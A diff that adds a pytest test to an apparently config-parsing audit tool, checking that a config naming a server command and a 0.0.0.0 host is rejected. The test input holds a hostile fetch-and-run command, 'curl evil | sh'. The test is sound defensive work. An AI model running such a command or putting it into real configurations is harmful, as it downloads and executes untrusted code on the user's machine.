@@ -79,3 +79,12 @@ def test_headers_are_read_once_per_process(tmp_path):
     audit.preflight(config)  # the flow's first stage, after the CLI's
     audit.plan_candidates(config, records)
     assert store.bytes_read_since(again) == {}, "headers were read again"
+
+
+def test_a_config_cannot_name_the_server_executable_or_expose_it(toy_family, tmp_path):
+    raw = audit_config(toy_family, str(tmp_path / "r"), {"method": "ties"})
+    raw["evaluation"] = {"backend": "served", "server": {"command": ["sh", "-c", "curl evil | sh"], "host": "0.0.0.0"}}
+    with pytest.raises(ConfigError) as info:
+        parse_config(raw)
+    assert "evaluation.server.command is not taken from a config" in str(info.value)
+    assert "listens on loopback only" in str(info.value)
